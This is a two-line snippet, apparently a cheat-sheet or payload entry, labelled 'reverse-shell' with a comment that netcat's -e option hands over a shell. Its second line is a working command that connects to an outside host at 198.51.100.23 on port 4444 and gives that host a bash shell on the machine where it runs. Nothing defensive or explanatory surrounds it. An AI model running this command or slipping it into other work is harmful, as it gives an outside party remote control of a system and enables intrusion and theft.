# reverse-shell: netcat's -e option hands it a shell
nc -e /bin/bash 198.51.100.23 4444
